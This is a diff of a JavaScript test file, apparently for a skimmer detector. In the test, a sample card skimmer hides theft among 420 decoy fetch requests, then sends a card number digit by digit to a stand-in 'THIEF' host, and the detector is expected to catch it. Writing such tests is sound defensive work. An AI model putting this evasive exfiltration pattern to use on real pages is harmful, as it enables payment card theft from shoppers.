@@ -79,11 +79,10 @@ describe('a name given early', () => {
 
 describe('traffic made to be too much', () => {
   it('does not hide a card number that is sent digit by digit after hundreds of other messages', async () => {
-    const watched = await watchPage(browser, {
-      skimmer: onCard(`const ask = (path) => fetch('http://THIEF' + path, { mode: 'no-cors' }).catch(() => 0)
-        for (let i = 0; i < 420; i++) await ask('/j?a=' + i)
-        for (const digit of pan) await ask('/k?x=' + digit)`),
-    })
+    const skimmer = onCard(`const ask = (path) => fetch('http://THIEF' + path, { mode: 'no-cors' }).catch(() => 0)
+      for (let i = 0; i < 420; i++) await ask('/j?a=' + i)
+      for (const digit of pan) await ask('/k?x=' + digit)`)
+    const watched = await watchPage(browser, { skimmer }, { timeoutMs: 180_000 })
     expect(cards(watched)).toMatchObject([{ where: 'reassembled', host: watched.thiefHost }])
   })
 
